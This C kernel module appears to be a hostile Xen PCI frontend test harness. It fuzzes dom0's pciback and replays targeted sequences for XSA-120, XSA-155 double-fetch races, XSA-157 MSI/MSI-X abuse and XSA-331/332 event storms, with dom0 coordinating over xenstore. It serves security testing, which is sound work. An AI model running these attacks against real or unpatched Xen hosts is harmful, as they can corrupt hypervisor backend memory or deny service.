// SPDX-License-Identifier: GPL-2.0
/*
 * xpb_hostile: the attacks, run in the order of xh_phases[] when named
 * in the "attacks" parameter (a comma-separated list, default all).
 * Each prints what it sent and what came back; dom0 judges the hardware.
 * Randomness comes from one seeded generator (the seed is printed first,
 * and the "seed" parameter replays a run).
 */
#define pr_fmt(fmt) "HOSTILE: " fmt

#include <linux/delay.h>
#include <linux/err.h>
#include <linux/kthread.h>
#include <linux/ktime.h>
#include <linux/module.h>
#include <linux/pci_regs.h>
#include <linux/random.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <xen/events.h>
#include <xen/xenbus.h>

#include "xh.h"

static char *attacks = "random,xsa120,xsa157,doublefetch,storm,protocol";
module_param(attacks, charp, 0444);
MODULE_PARM_DESC(attacks, "Which attacks to run, comma-separated");

static u64 seed;
module_param(seed, ullong, 0444);
MODULE_PARM_DESC(seed, "Seed of the random requests (0: pick one and print it)");

static unsigned int count = 100000;
module_param(count, uint, 0444);
MODULE_PARM_DESC(count, "Random requests to send");

static unsigned int storm_ms = 5000;
module_param(storm_ms, uint, 0444);
MODULE_PARM_DESC(storm_ms, "How long the event storm with a request pending lasts");

/* Xen's pciif.h has it; Linux 6.1's copy does not */
#ifndef XEN_PCI_OP_enable_multi_msi
#define XEN_PCI_OP_enable_multi_msi	10
#endif

static unsigned int hold_s = 600;
module_param(hold_s, uint, 0444);
MODULE_PARM_DESC(hold_s, "How long the guest waits for dom0 at each handshake (the XSA-120 writes in place, the storm), and the longest idle storm");

static struct rnd_state xh_rnd;

static u32 xh_rand(void)
{
	return prandom_u32_state(&xh_rnd);
}

/* true with a chance of @pct in 100 */
static bool xh_chance(unsigned int pct)
{
	return xh_rand() % 100 < pct;
}

/**
 * xh_op() - a request for the target, other fields zero
 * @f: the connection
 * @op: the request to fill
 * @cmd: pciif command
 * @offset: config offset
 * @size: access size
 * @value: value (or vector count)
 */
void xh_op(const struct xh_front *f, struct xen_pci_op *op, u32 cmd,
	   s32 offset, s32 size, u32 value)
{
	memset(op, 0, sizeof(*op));
	op->cmd = cmd;
	op->domain = f->domain;
	op->bus = f->bus;
	op->devfn = f->devfn;
	op->offset = offset;
	op->size = size;
	op->value = value;
}

/* --- random requests ----------------------------------------------- */

/* The commands a random request carries, and how often (out of 100). */
#define XH_CMD_ANY	U32_MAX
static const struct {
	u32 cmd;
	unsigned int weight;
} xh_cmd_mix[] = {
	{ XEN_PCI_OP_conf_read, 45 },
	{ XEN_PCI_OP_conf_write, 30 },
	{ XEN_PCI_OP_enable_msi, 3 },
	{ XEN_PCI_OP_disable_msi, 3 },
	{ XEN_PCI_OP_enable_msix, 4 },
	{ XEN_PCI_OP_disable_msix, 3 },
	/* answers the backend never asked for, sent as requests */
	{ XEN_PCI_OP_aer_detected, 1 },
	{ XEN_PCI_OP_aer_resume, 1 },
	{ XEN_PCI_OP_aer_mmio, 1 },
	{ XEN_PCI_OP_aer_slotreset, 1 },
	{ XH_CMD_ANY, 8 },
};

static u32 xh_rand_cmd(void)
{
	unsigned int r = xh_rand() % 100, i;

	for (i = 0; i < ARRAY_SIZE(xh_cmd_mix) - 1; i++) {
		if (r < xh_cmd_mix[i].weight)
			return xh_cmd_mix[i].cmd;
		r -= xh_cmd_mix[i].weight;
	}
	return xh_rand();
}

static const s32 xh_sizes[] = { 1, 2, 4 };

static void xh_rand_op(const struct xh_front *f, struct xen_pci_op *op)
{
	unsigned int i, n;
	s32 size;

	size = xh_chance(90) ? xh_sizes[xh_rand() % ARRAY_SIZE(xh_sizes)] :
			       (s32)xh_rand() % 16 - 4;
	xh_op(f, op, xh_rand_cmd(), 0, size, xh_rand());
	if (xh_chance(70) && size > 0)
		op->offset = (xh_rand() % 0x1000) & ~(size - 1);
	else if (xh_chance(70))
		op->offset = (s32)(xh_rand() % 0x1040) - 0x20;
	else
		op->offset = xh_rand();
	/* another function, bus or segment now and then */
	if (xh_chance(10))
		op->devfn = xh_chance(50) ? xh_rand() & 0xff : xh_rand();
	if (xh_chance(5))
		op->bus = xh_chance(50) ? xh_rand() & 0xff : xh_rand();
	if (xh_chance(5))
		op->domain = xh_chance(50) ? xh_rand() & 0xffff : xh_rand();
	/*
	 * MSI-X and multi-MSI: a vector count (pciif's value), in range or
	 * not, and entries for it; info random too
	 */
	op->info = xh_rand();
	if (op->cmd == XEN_PCI_OP_enable_msix ||
	    op->cmd == XEN_PCI_OP_enable_multi_msi)
		op->value = xh_chance(80) ? xh_rand() % (SH_INFO_MAX_VEC + 8) :
					    xh_rand();
	n = min_t(u32, op->value, SH_INFO_MAX_VEC);
	for (i = 0; i < n; i++) {
		op->msix_entries[i].entry = xh_chance(80) ? xh_rand() % 8 : xh_rand();
		op->msix_entries[i].vector = xh_rand();
	}
}

static void xh_random(struct xh_front *f)
{
	struct xh_tally t = {};
	struct xen_pci_op op;
	u64 t0 = ktime_get_ns();
	unsigned int i;

	for (i = 0; i < count; i++) {
		xh_rand_op(f, &op);
		if (xh_request(f, &op, &t)) {
			pr_info("random: request %u (cmd %u offset %d size %d) not answered: stop\n",
				i, op.cmd, op.offset, op.size);
			break;
		}
		if (!(i % 1024))
			cond_resched();
	}
	xh_tally_print("random:", &t, ktime_get_ns() - t0);
}

/* --- targeted sequences -------------------------------------------- */

/* The offset of capability @id in the target's chain, 0 if none. */
static int xh_find_cap(struct xh_front *f, u8 id)
{
	struct xh_tally t = {};
	struct xen_pci_op op;
	unsigned int ttl = 48;
	int pos;

	xh_op(f, &op, XEN_PCI_OP_conf_read, PCI_CAPABILITY_LIST, 1, 0);
	if (xh_request(f, &op, &t) || op.err)
		return 0;
	pos = op.value & 0xfc;
	while (pos >= 0x40 && ttl--) {
		xh_op(f, &op, XEN_PCI_OP_conf_read, pos, 2, 0);
		if (xh_request(f, &op, &t) || op.err)
			return 0;
		if ((op.value & 0xff) == id)
			return pos;
		pos = (op.value >> 8) & 0xfc;
	}
	return 0;
}

/* One step of a sequence: a request, or a register read-modify-write. */
struct xh_step {
	const char *what;
	u32 cmd;
	u8 cap;		/* offset relative to this capability (0: header) */
	s32 offset;
	s32 size;
	u32 set;	/* conf_write: bits to set ... */
	u32 clear;	/* ... and to clear in what reads back */
	u32 nvec;	/* MSI-X: vector count */
	u16 entry[2];	/* and the first two entries */
};

#define XH_RMW(_what, _cap, _off, _size, _set, _clear)			\
	{ .what = _what, .cmd = XEN_PCI_OP_conf_write, .cap = _cap,	\
	  .offset = _off, .size = _size, .set = _set, .clear = _clear }
#define XH_IRQ(_what, _cmd, _nvec, _e0, _e1)				\
	{ .what = _what, .cmd = _cmd, .nvec = _nvec,			\
	  .entry = { _e0, _e1 } }

/* XSA-120: decode off, error reporting on, then the BAR is touched */
static const struct xh_step xh_xsa120[] = {
	XH_RMW("command: memory and I/O decode off", 0, PCI_COMMAND, 2, 0,
	       PCI_COMMAND_MEMORY | PCI_COMMAND_IO),
	XH_RMW("command: SERR and parity on", 0, PCI_COMMAND, 2,
	       PCI_COMMAND_SERR | PCI_COMMAND_PARITY, 0),
	XH_RMW("devctl: all error reporting on", PCI_CAP_ID_EXP, PCI_EXP_DEVCTL,
	       2, PCI_EXP_DEVCTL_CERE | PCI_EXP_DEVCTL_NFERE |
	       PCI_EXP_DEVCTL_FERE | PCI_EXP_DEVCTL_URRE, 0),
	XH_RMW("devctl: max payload 4096", PCI_CAP_ID_EXP, PCI_EXP_DEVCTL, 2,
	       PCI_EXP_DEVCTL_PAYLOAD, 0),
	XH_RMW("BAR0: all ones", 0, PCI_BASE_ADDRESS_0, 4, ~0U, 0),
	XH_RMW("expansion ROM: enabled at all ones", 0, PCI_ROM_ADDRESS, 4,
	       ~0U, 0),
};

/* XSA-157: interrupt requests out of order, twice, too many, bad */
static const struct xh_step xh_xsa157[] = {
	/* a known start, whatever the random requests left: D0, decode on */
	XH_RMW("PM: D0", PCI_CAP_ID_PM, PCI_PM_CTRL, 2, 0,
	       PCI_PM_CTRL_STATE_MASK),
	XH_RMW("command: memory decode on", 0, PCI_COMMAND, 2,
	       PCI_COMMAND_MEMORY, 0),
	XH_IRQ("disable MSI while off", XEN_PCI_OP_disable_msi, 0, 0, 0),
	XH_IRQ("disable MSI-X while off", XEN_PCI_OP_disable_msix, 0, 0, 0),
	XH_IRQ("enable MSI", XEN_PCI_OP_enable_msi, 0, 0, 0),
	XH_IRQ("enable MSI again", XEN_PCI_OP_enable_msi, 0, 0, 0),
	/* the virtio function has no MSI: both MSI enables are refused */
	XH_IRQ("enable MSI-X after the MSI enables", XEN_PCI_OP_enable_msix,
	       1, 0, 0),
	XH_IRQ("disable MSI while MSI-X is on (MSI-X off)",
	       XEN_PCI_OP_disable_msi, 0, 0, 0),
	XH_IRQ("enable MSI-X, entry 0", XEN_PCI_OP_enable_msix, 1, 0, 0),
	XH_IRQ("enable MSI-X again", XEN_PCI_OP_enable_msix, 1, 0, 0),
	XH_IRQ("enable MSI while MSI-X is on", XEN_PCI_OP_enable_msi, 0, 0, 0),
	XH_IRQ("disable MSI-X", XEN_PCI_OP_disable_msix, 0, 0, 0),
	XH_IRQ("enable MSI-X, 129 vectors", XEN_PCI_OP_enable_msix,
	       SH_INFO_MAX_VEC + 1, 0, 1),
	XH_IRQ("enable MSI-X, 4294967295 vectors", XEN_PCI_OP_enable_msix,
	       U32_MAX, 0, 1),
	XH_IRQ("enable MSI-X, entry 2047", XEN_PCI_OP_enable_msix, 1, 2047, 0),
	XH_IRQ("enable MSI-X, entry 65535", XEN_PCI_OP_enable_msix, 1, 65535, 0),
	XH_IRQ("enable MSI-X, entry 0 twice", XEN_PCI_OP_enable_msix, 2, 0, 0),
	XH_IRQ("enable MSI-X, no vectors", XEN_PCI_OP_enable_msix, 0, 0, 0),
	XH_RMW("command: memory decode off", 0, PCI_COMMAND, 2, 0,
	       PCI_COMMAND_MEMORY),
	XH_IRQ("enable MSI-X with decode off", XEN_PCI_OP_enable_msix, 1, 0, 0),
	XH_IRQ("disable MSI-X", XEN_PCI_OP_disable_msix, 0, 0, 0),
	XH_RMW("command: memory decode on", 0, PCI_COMMAND, 2,
	       PCI_COMMAND_MEMORY, 0),
};

static void xh_step(struct xh_front *f, const char *seq,
		    const struct xh_step *s)
{
	struct xh_tally t = {};
	struct xen_pci_op op;
	int base = 0;
	u32 v;

	if (s->cap) {
		base = xh_find_cap(f, s->cap);
		if (!base) {
			pr_info("%s: %s: no such capability (%#x)\n", seq,
				s->what, s->cap);
			return;
		}
	}
	if (s->cmd == XEN_PCI_OP_conf_write) {
		xh_op(f, &op, XEN_PCI_OP_conf_read, base + s->offset, s->size, 0);
		if (xh_request(f, &op, &t))
			goto lost;
		v = (op.value & ~s->clear) | s->set;
		xh_op(f, &op, s->cmd, base + s->offset, s->size, v);
	} else {
		/* pciif carries the vector count in value */
		xh_op(f, &op, s->cmd, 0, 0, s->nvec);
		op.msix_entries[0].entry = s->entry[0];
		op.msix_entries[1].entry = s->entry[1];
	}
	if (xh_request(f, &op, &t))
		goto lost;
	v = op.value;
	/* what the guest now reads there */
	if (s->cmd == XEN_PCI_OP_conf_write) {
		xh_op(f, &op, XEN_PCI_OP_conf_read, base + s->offset, s->size, 0);
		if (xh_request(f, &op, &t))
			goto lost;
		pr_info("%s: %s: err %d reads %#x\n", seq, s->what,
			(int)op.err, op.value);
		return;
	}
	pr_info("%s: %s: err %d value %#x\n", seq, s->what, (int)op.err, v);
	return;
lost:
	pr_info("%s: %s: not answered\n", seq, s->what);
}

static void xh_sequence(struct xh_front *f, const char *seq,
			const struct xh_step *steps, unsigned int n)
{
	unsigned int i;

	for (i = 0; i < n; i++)
		xh_step(f, seq, &steps[i]);
}

/* Has dom0 written @what to data/xpb-hostile-go? */
static bool xh_go_is(const char *what)
{
	char *go = xenbus_read(XBT_NIL, "data", "xpb-hostile-go", NULL);
	bool is;

	if (IS_ERR(go))
		return false;
	is = !strcmp(go, what);
	kfree(go);
	return is;
}

/*
 * Wait for dom0 at a point of the attack: the guest names it in its
 * xenstore data directory (data/xpb-hostile = @what) and waits until
 * dom0 writes the same name to data/xpb-hostile-go.  No timing: a slow
 * machine only waits longer.  Return: dom0 answered within hold_s.
 */
static bool xh_dom0_handshake(const char *what)
{
	unsigned int i;
	bool seen = false;

	if (xenbus_write(XBT_NIL, "data", "xpb-hostile", what)) {
		pr_info("%s: cannot tell dom0 (xenstore)\n", what);
		return false;
	}
	for (i = 0; i < hold_s * 10 && !seen; i++) {
		seen = xh_go_is(what);
		if (!seen)
			msleep(100);
	}
	return seen;
}

/* The writes stand until dom0 has read the hardware. */
static void xh_seq_xsa120(struct xh_front *f)
{
	xh_sequence(f, "xsa120", xh_xsa120, ARRAY_SIZE(xh_xsa120));
	/* and what dom0 must have counted so far, for it to compare */
	if (xenbus_printf(XBT_NIL, "data", "xpb-hostile-found", "%llu", f->found))
		pr_info("xsa120: cannot tell dom0 the count (xenstore)\n");
	pr_info("xsa120: %s\n", xh_dom0_handshake("xsa120") ?
		"dom0 has looked" : "dom0 never said it looked");
}

static void xh_seq_xsa157(struct xh_front *f)
{
	xh_sequence(f, "xsa157", xh_xsa157, ARRAY_SIZE(xh_xsa157));
}

/* --- double fetch (XSA-155) ---------------------------------------- */

static int xh_scribble(void *data)
{
	struct xh_front *f = data;
	struct xen_pci_op *op = &f->sh->op;
	struct rnd_state r;
	unsigned int n = 0;

	prandom_seed_state(&r, seed ^ 0x5eed);
	while (!kthread_should_stop()) {
		/* the other vCPU's requests take long: no soft lockup */
		if (!(++n % 4096))
			cond_resched();
		WRITE_ONCE(op->cmd, prandom_u32_state(&r) % 12);
		WRITE_ONCE(op->offset, prandom_u32_state(&r) % 0x1100);
		WRITE_ONCE(op->size, prandom_u32_state(&r) % 9);
		WRITE_ONCE(op->info, prandom_u32_state(&r));
		WRITE_ONCE(op->value, prandom_u32_state(&r) % 160);
		WRITE_ONCE(op->devfn, prandom_u32_state(&r) & 0x1ff);
		cpu_relax();
	}
	return 0;
}

/*
 * Start @fn on the second vCPU, where it rewrites the shared page while
 * this one sends requests.  NULL, with a line, when the guest has one
 * vCPU or no thread could be made.
 */
static struct task_struct *xh_on_cpu1(int (*fn)(void *), struct xh_front *f,
				      const char *name)
{
	struct task_struct *k;

	if (num_online_cpus() < 2) {
		pr_info("doublefetch: %s needs two vCPUs, this guest has one\n",
			name);
		return NULL;
	}
	k = kthread_create(fn, f, "%s", name);
	if (IS_ERR(k)) {
		pr_info("doublefetch: %s: no thread (%ld)\n", name, PTR_ERR(k));
		return NULL;
	}
	kthread_bind(k, 1);
	wake_up_process(k);
	return k;
}

static void xh_doublefetch_scribble(struct xh_front *f)
{
	struct task_struct *k;
	struct xh_tally t = {};
	struct xen_pci_op op;
	u64 t0 = ktime_get_ns();
	unsigned int i, n = count / 10 ?: 1;

	k = xh_on_cpu1(xh_scribble, f, "xh_scribble");
	if (!k)
		return;
	for (i = 0; i < n; i++) {
		xh_op(f, &op, i & 1 ? XEN_PCI_OP_conf_write : XEN_PCI_OP_conf_read,
		      xh_rand() % 0x100, 4, xh_rand());
		op.info = xh_rand();
		if (xh_request(f, &op, &t))
			break;
	}
	kthread_stop(k);
	xh_tally_print("doublefetch:", &t, ktime_get_ns() - t0);
}

/*
 * A sharper probe: one field flips between an allowed and a refused
 * value while an otherwise valid request is in flight.  The MSI-X vector
 * count of an enable flips between 1 and XH_TOGGLE_NVEC (more than a
 * table holds): a backend that judges one fetch and fills its table
 * from another writes past the table's end.  A backend that fetches
 * once grants or refuses, and either is right.
 */
#define XH_TOGGLE_NVEC	150

static int xh_toggle(void *data)
{
	struct xh_front *f = data;
	unsigned int n = 0;

	while (!kthread_should_stop()) {
		WRITE_ONCE(f->sh->op.value, n & 1 ? 1 : XH_TOGGLE_NVEC);
		if (!(++n % 4096))
			cond_resched();
		cpu_relax();
	}
	return 0;
}

static void xh_doublefetch_toggle(struct xh_front *f)
{
	struct xh_tally ten = {}, tdis = {};
	struct task_struct *k;
	struct xen_pci_op op;
	u64 t0 = ktime_get_ns();
	unsigned int i, n = count / 100 ?: 1;

	k = xh_on_cpu1(xh_toggle, f, "xh_toggle");
	if (!k)
		return;
	for (i = 0; i < n; i++) {
		xh_op(f, &op, XEN_PCI_OP_enable_msix, 0, 0, 1);
		op.msix_entries[0].entry = 0;
		if (xh_request(f, &op, &ten))
			break;
		xh_op(f, &op, XEN_PCI_OP_disable_msix, 0, 0, 0);
		if (xh_request(f, &op, &tdis))
			break;
	}
	kthread_stop(k);
	xh_tally_print("doublefetch: toggled MSI-X enables:", &ten,
		       ktime_get_ns() - t0);
	xh_tally_print("doublefetch: their disables:", &tdis,
		       ktime_get_ns() - t0);
}

static void xh_doublefetch(struct xh_front *f)
{
	xh_doublefetch_scribble(f);
	xh_doublefetch_toggle(f);
}

/* --- event storm (XSA-331/332) ------------------------------------- */

static u64 xh_notify_for(struct xh_front *f, unsigned int ms)
{
	ktime_t end = ktime_add_ms(ktime_get(), ms);
	u64 n = 0;

	while (ktime_before(ktime_get(), end)) {
		notify_remote_via_evtchn(f->port);
		if (!(++n % 4096))
			cond_resched();
	}
	return n;
}

/*
 * The idle storm lasts until dom0 writes "storm-stop" to
 * data/xpb-hostile-go (it stops it once another domain has been seen
 * answered inside it), at most hold_s.  Return: events sent; *@stopped
 * says whether dom0 ended it.
 */
static u64 xh_notify_until_stop(struct xh_front *f, bool *stopped)
{
	ktime_t end = ktime_add_ms(ktime_get(), hold_s * 1000ULL);
	u64 n = 0;

	*stopped = false;
	while (!*stopped && ktime_before(ktime_get(), end)) {
		n += xh_notify_for(f, 100);
		*stopped = xh_go_is("storm-stop");
	}
	return n;
}

static void xh_storm(struct xh_front *f)
{
	struct xh_tally t = {};
	struct xen_pci_op op;
	u64 n, ev = atomic64_read(&f->events);
	ktime_t t0;
	bool stopped;

	/* dom0 measures its own CPU time while the storm lasts */
	if (!xh_dom0_handshake("storm"))
		pr_info("storm: dom0 never said it was measuring\n");
	pr_info("storm: idle, until dom0 says stop (at most %u s)\n", hold_s);
	t0 = ktime_get();
	n = xh_notify_until_stop(f, &stopped);
	pr_info("storm: idle: %llu events sent in %lld ms, %lld came back, %s\n",
		n, ktime_ms_delta(ktime_get(), t0),
		atomic64_read(&f->events) - ev,
		stopped ? "stopped by dom0" : "dom0 never said stop");
	/* a request pending during the storm: answered once, and right */
	xh_op(f, &op, XEN_PCI_OP_conf_read, PCI_VENDOR_ID, 2, 0);
	ev = atomic64_read(&f->events);
	xh_post(f, &op, &t);
	n = xh_notify_for(f, storm_ms);
	if (xh_wait(f, &op, &t))
		pr_info("storm: pending: %llu events sent, then not answered\n", n);
	else
		pr_info("storm: pending: %llu events sent, %lld came back, then err %d vendor %#x\n",
			n, atomic64_read(&f->events) - ev, (int)op.err, op.value);
}

/* --- the phases ---------------------------------------------------- */

static const struct {
	const char *name;
	void (*run)(struct xh_front *f);
} xh_phases[] = {
	{ "random", xh_random },
	{ "xsa120", xh_seq_xsa120 },
	{ "xsa157", xh_seq_xsa157 },
	{ "doublefetch", xh_doublefetch },
	{ "storm", xh_storm },
	/* last: it may leave the connection in any state if pciback fails */
	{ "protocol", xh_protocol },
};

static bool xh_named(const char *name)
{
	size_t n = strlen(name);
	const char *p = attacks;

	while ((p = strstr(p, name))) {
		if ((p == attacks || p[-1] == ',') && (!p[n] || p[n] == ','))
			return true;
		p += n;
	}
	return false;
}

/**
 * xh_attacks_check() - refuse an "attacks" list with an unknown name
 *
 * Return: 0, or -EINVAL (with a line naming it) so that insmod fails
 * and a typo never passes for an attack that ran.
 */
int xh_attacks_check(void)
{
	const char *p = attacks;
	unsigned int i;
	size_t n;

	while (*p) {
		n = strcspn(p, ",");
		for (i = 0; i < ARRAY_SIZE(xh_phases); i++)
			if (strlen(xh_phases[i].name) == n &&
			    !strncmp(p, xh_phases[i].name, n))
				break;
		if (i == ARRAY_SIZE(xh_phases)) {
			pr_err("attacks=: no attack \"%.*s\"\n", (int)n, p);
			return -EINVAL;
		}
		p += n + !!p[n];
	}
	return 0;
}

/**
 * xh_attack() - run the attacks the "attacks" parameter names
 * @f: the connection, Connected
 */
void xh_attack(struct xh_front *f)
{
	unsigned int i;

	if (!seed)
		seed = get_random_u64() ?: 1;
	prandom_seed_state(&xh_rnd, seed);
	pr_info("seed %llu attacks %s count %u\n", seed, attacks, count);
	for (i = 0; i < ARRAY_SIZE(xh_phases); i++) {
		if (!xh_named(xh_phases[i].name))
			continue;
		pr_info("%s: start\n", xh_phases[i].name);
		xh_phases[i].run(f);
	}
	pr_info("events %lld, AER questions %lld\n",
		atomic64_read(&f->events), atomic64_read(&f->aer_asked));
}
